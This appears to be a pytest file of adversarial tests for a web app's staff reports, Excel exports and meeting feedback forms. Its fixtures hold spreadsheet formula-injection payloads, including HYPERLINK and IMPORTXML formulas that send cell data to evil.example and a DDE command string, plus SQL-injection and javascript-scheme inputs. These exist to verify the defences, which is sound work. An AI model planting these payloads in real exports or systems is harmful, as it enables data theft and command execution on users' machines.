"""Adversarial checks of the reports and the Excel files staff download: scopes of another office, query
strings that are not what the page expects, and member-written text that must not become a formula."""

import re
import threading
from datetime import date, time, timedelta
from io import BytesIO

import pytest
from builders.reports import DAY, report_url, two_offices
from openpyxl import load_workbook

from matchmaker.enums import MeetingStatus, OrgKind, Outcome, RequestStatus, Role
from matchmaker.extensions import db
from matchmaker.models import Feedback, Meeting, User
from matchmaker.services import ServiceError

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+2", "=cmd|' /C calc'!A0")


@pytest.fixture
def offices(make_office, make_program, make_event, make_org, make_user, make_request, add_meeting):
    """Two offices with one past day each; office A's day has a meeting whose names and feedback comment
    were written by members as spreadsheet formulas (and one with a control character)."""
    made = two_offices(make_office, make_program, make_event, make_user)
    event = made["A"]["event"]
    company = make_org(OrgKind.COMPANY, name=FORMULAS[0])
    investor = make_org(OrgKind.INVESTOR, name="=2+3")
    meeting = add_meeting(make_request(event, company, investor, status=RequestStatus.ACCEPTED,
                                       message="=SUM(1,2)"))
    db.session.add_all([
        Feedback(meeting_id=meeting.id, organization_id=company.id, rating=5, outcome=Outcome.MOU,
                 comment=FORMULAS[2]),
        Feedback(meeting_id=meeting.id, organization_id=investor.id, rating=2, outcome=Outcome.NONE,
                 comment="bell\x07 and\x1b escape"),
    ])
    db.session.commit()
    return made


# --- scopes of another office -----------------------------------------------------------------------

@pytest.mark.parametrize("export", [False, True])
@pytest.mark.parametrize("scope", ["event", "program", "office"])
def test_staff_of_another_office_get_403_on_page_and_export(client, auth, offices, scope, export):
    auth.login(offices["B"]["staff"])

    assert client.get(report_url(scope, offices, "A", export)).status_code == 403
    assert client.get(report_url(scope, offices, "B", export)).status_code == 200


def test_year_scope_holds_only_the_viewers_office(client, auth, offices):
    auth.login(offices["B"]["staff"])

    page = client.get(report_url("year", offices)).get_data(as_text=True)
    book = load_workbook(BytesIO(client.get(report_url("year", offices, export=True)).data))

    assert "Day B" in page and "Day A" not in page
    cells = {str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row}
    assert not any("Day A" in c for c in cells)


# --- query strings that are not what the page expects -------------------------------------------------

@pytest.mark.parametrize("export", [False, True])
@pytest.mark.parametrize("query", [
    "scope=event&id=abc", "scope=event", "scope=program&id=", "scope=office&id=-1", "scope=nonsense&id=1",
    "scope=event&id=999999999", "scope=event&id=99999999999999999999999",
    "scope=program&id=9223372036854775808", "scope=office&id=1e3",
])
def test_bad_scope_or_id_is_404_never_500(client, auth, offices, query, export):
    auth.login(offices["A"]["staff"])
    path = "/staff/reports/export.xlsx" if export else "/staff/reports"

    assert client.get(f"{path}?{query}").status_code == 404


@pytest.mark.parametrize("export", [False, True])
@pytest.mark.parametrize("year", ["99999", "10000", "-5", "99999999999999999999999"])
def test_year_out_of_the_calendars_range_is_404_never_500(client, auth, offices, year, export):
    auth.login(offices["A"]["staff"])
    path = "/staff/reports/export.xlsx" if export else "/staff/reports"

    assert client.get(f"{path}?scope=year&year={year}").status_code == 404


def test_far_but_valid_year_is_an_empty_report(client, auth, offices):
    auth.login(offices["A"]["staff"])

    response = client.get("/staff/reports?scope=year&year=9999")

    assert response.status_code == 200
    assert "Year 9999" in response.get_data(as_text=True)


def test_year_that_is_not_a_number_falls_back_to_this_year(client, auth, offices):
    auth.login(offices["A"]["staff"])

    response = client.get("/staff/reports?scope=year&year=twenty")

    assert response.status_code == 200
    assert str(date.today().year) in response.get_data(as_text=True)


def test_refit_needs_a_post_with_a_csrf_token(app, client, auth, offices, monkeypatch):
    auth.login(offices["A"]["staff"])
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)

    assert client.get("/staff/reports/refit").status_code == 405
    assert client.post("/staff/reports/refit").status_code == 400


# --- member-written text in Excel files ---------------------------------------------------------------

def _cells(data: bytes) -> list:
    """Every cell of every sheet as openpyxl reads it back: (value, data type)."""
    book = load_workbook(BytesIO(data))
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def _assert_no_formula(cells: list) -> None:
    assert [value for value, kind in cells if kind == "f"] == []


def test_report_export_writes_member_text_as_text_not_formulas(client, auth, offices):
    auth.login(offices["A"]["staff"])

    response = client.get(report_url("event", offices, export=True))

    assert response.status_code == 200
    cells = _cells(response.data)
    _assert_no_formula(cells)
    values = [value for value, _ in cells]
    assert FORMULAS[0] in values and "=2+3" in values and FORMULAS[2] in values  # kept, as text
    assert "bell and escape" in values  # characters a workbook cannot hold are left out, not a 500


@pytest.mark.parametrize("what", ["participants", "requests", "schedule"])
def test_day_exports_write_member_text_as_text_not_formulas(client, auth, offices, make_participation, what):
    event = offices["A"]["event"]
    meeting = db.session.scalars(db.select(Meeting).where(Meeting.event_id == event.id)).one()
    for org in (meeting.request.from_org, meeting.request.to_org):
        make_participation(event, org)
        org.description = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")\x0b"
    db.session.commit()
    auth.login(offices["A"]["staff"])

    response = client.get(f"/staff/events/{event.id}/export/{what}.xlsx")

    assert response.status_code == 200
    cells = _cells(response.data)
    _assert_no_formula(cells)
    assert FORMULAS[0] in [value for value, _ in cells]


# --- feedback: only the sides of a meeting, only valid answers ---------------------------------------

FORM = {"rating": "4", "follow_up": "y", "outcome": "mou", "amount_usd": "150000",
        "expected_amount_usd": "900000", "comment": "Promising"}


@pytest.fixture
def met(make_event, make_user, make_request, add_meeting):
    """Two published past meetings at one day: company A with an investor, rival B with a buyer; and a
    meeting of A's in an unpublished day."""
    event = make_event(published=True, date=DAY, timezone="UTC", day_start=time(9), day_end=time(12))
    a, rival, investor, buyer = (make_user(Role.COMPANY), make_user(Role.COMPANY), make_user(Role.PARTNER),
                                 make_user(Role.PARTNER))
    mine = add_meeting(make_request(event, a.organization, investor.organization, status=RequestStatus.ACCEPTED))
    theirs = add_meeting(make_request(event, rival.organization, buyer.organization,
                                      status=RequestStatus.ACCEPTED), slot=1)
    hidden = make_event(published=False, date=DAY, timezone="UTC", day_start=time(9), day_end=time(12))
    unpublished = add_meeting(make_request(hidden, a.organization, buyer.organization,
                                           status=RequestStatus.ACCEPTED), slot=2)
    return dict(a=a, rival=rival, investor=investor, buyer=buyer, mine=mine, theirs=theirs,
                unpublished=unpublished)


def _feedback():
    db.session.expire_all()
    return [(f.meeting_id, f.organization_id, f.rating, f.amount_usd, f.expected_amount_usd, f.outcome.value)
            for f in db.session.scalars(db.select(Feedback).order_by(Feedback.id))]


def test_member_guessing_meeting_ids_gets_404_and_saves_nothing(client, auth, met):
    auth.login(met["a"])
    ids = sorted(db.session.scalars(db.select(Meeting.id)))

    reads = {i: client.get(f"/meetings/{i}/feedback").status_code for i in ids}
    writes = {i: client.post(f"/meetings/{i}/feedback", data=FORM).status_code for i in ids}

    expected = {i: 404 for i in ids} | {met["mine"].id: 200}
    assert reads == expected
    assert writes == expected | {met["mine"].id: 302}
    assert _feedback() == [(met["mine"].id, met["a"].organization_id, 4, 150_000, 900_000, "mou")]
    assert client.get(f"/meetings/{ids[-1] + 1000}/feedback").status_code == 404


def test_feedback_list_never_shows_another_organizations_meeting(client, auth, met):
    met["rival"].organization.name = "Rival Robotics"
    met["buyer"].organization.name = "Secretive Buyer Inc"
    db.session.commit()
    auth.login(met["a"])

    page = client.get("/feedback").get_data(as_text=True)

    assert "Rival Robotics" not in page and "Secretive Buyer Inc" not in page
    assert met["investor"].organization.name in page


def test_staff_cannot_give_feedback_for_a_member(client, auth, met, make_user):
    auth.login(make_user(Role.STAFF))

    assert client.post(f"/meetings/{met['mine'].id}/feedback", data=FORM).status_code == 403
    assert _feedback() == []


@pytest.mark.parametrize("field", ["rating", "amount_usd", "expected_amount_usd", "outcome", "comment"])
@pytest.mark.parametrize("value", [
    "0", "6", "-1", "4.5", "abc", "1e3", "-5", "99999999999999999999999", "10000000001", "9223372036854775808",
    "investment; DROP TABLE feedback", "MOU", "c" * 2001, "\x00",
])
def test_out_of_range_or_unknown_answers_are_form_errors(client, auth, met, field, value):
    valid = {
        "rating": {"1", "5"}, "outcome": set(), "comment": {"0", "6", "-1", "4.5", "abc", "1e3", "-5",
                                                             "99999999999999999999999", "10000000001",
                                                             "9223372036854775808", "investment; DROP TABLE feedback",
                                                             "MOU"},
        "amount_usd": {"0", "6"}, "expected_amount_usd": {"0", "6"},
    }
    auth.login(met["a"])

    response = client.post(f"/meetings/{met['mine'].id}/feedback", data={**FORM, field: value})

    if value in valid[field]:
        assert response.status_code == 302
        return
    assert response.status_code in (200, 400)
    assert _feedback() == []


def test_largest_amounts_allowed_are_saved(client, auth, met):
    auth.login(met["a"])

    response = client.post(f"/meetings/{met['mine'].id}/feedback",
                           data={**FORM, "amount_usd": "10000000000", "expected_amount_usd": "10000000000"})

    assert response.status_code == 302
    assert _feedback()[0][3:5] == (10_000_000_000, 10_000_000_000)


@pytest.mark.parametrize("case", ["cancelled", "not_started", "unpublished"])
def test_no_feedback_on_a_meeting_cancelled_not_started_or_unpublished(client, auth, met, case):
    meeting = met["unpublished"] if case == "unpublished" else met["mine"]
    if case == "cancelled":
        meeting.status = MeetingStatus.CANCELLED
    elif case == "not_started":
        start = meeting.start_dt + timedelta(days=400)
        meeting.start_dt, meeting.end_dt = start, start + timedelta(minutes=30)
        for seat in meeting.seats:
            seat.start_dt = start
    db.session.commit()
    auth.login(met["a"])

    response = client.post(f"/meetings/{meeting.id}/feedback", data=FORM)

    assert response.status_code == (302 if case == "not_started" else 404)
    assert _feedback() == []


def test_feedback_post_needs_the_csrf_token(app, client, auth, met, monkeypatch):
    auth.login(met["a"])
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)

    assert client.post(f"/meetings/{met['mine'].id}/feedback", data=FORM).status_code == 400
    assert client.post(f"/meetings/{met['mine'].id}/feedback", data={**FORM, "csrf_token": "x"}).status_code == 400
    assert _feedback() == []
    page = client.get(f"/meetings/{met['mine'].id}/feedback").get_data(as_text=True)
    assert 'name="csrf_token"' in page


@pytest.mark.parametrize("query", [
    "_method=POST", "_anchor=x", "_scheme=javascript", "_external=1&_scheme=javascript&x=%0Aalert(1)//",
    "_external=1", "id=1&id=2", "scope=year&year=2027&year=1999",
])
def test_query_string_cannot_steer_the_export_link(client, auth, offices, query):
    auth.login(offices["A"]["staff"])

    response = client.get(f"/staff/reports?scope=year&{query}")

    assert response.status_code == 200
    (link,) = re.findall(r'href="([^"]*export\.xlsx[^"]*)"', response.get_data(as_text=True))
    assert link.startswith("/staff/reports/export.xlsx?scope=year")
    assert "_" not in link.split("?", 1)[1] and "alert" not in link and "#" not in link


def test_two_first_feedbacks_at_the_same_moment_save_one_and_refuse_the_other(app, met, make_user, monkeypatch):
    """A double click, or two colleagues: both find no feedback yet, both insert; the database keeps one
    and the other is told, instead of a 500."""
    from matchmaker.services import feedback as service

    colleague = make_user(Role.COMPANY, organization=met["a"].organization)
    users, meeting_id = [met["a"].id, colleague.id], met["mine"].id
    both_looked = threading.Barrier(2, timeout=20)
    looked = service.feedback_of

    def feedback_of_then_wait(meeting, organization_id):
        found = looked(meeting, organization_id)
        both_looked.wait()
        return found

    monkeypatch.setattr(service, "feedback_of", feedback_of_then_wait)
    outcomes = []

    def give(user_id: int, rating: int):
        with app.app_context():
            try:
                service.save_feedback(db.session.get(User, user_id), db.session.get(Meeting, meeting_id),
                                      rating=rating)
                db.session.commit()
                outcomes.append("saved")
            except ServiceError as error:
                db.session.rollback()
                outcomes.append(str(error))
            finally:
                db.session.remove()

    threads = [threading.Thread(target=give, args=(user_id, rating))
               for user_id, rating in zip(users, (2, 5), strict=True)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)

    assert sorted(outcomes) == sorted([
        "saved", "Someone of your organization has just saved feedback on this meeting; check it and save again.",
    ])
    assert len(_feedback()) == 1
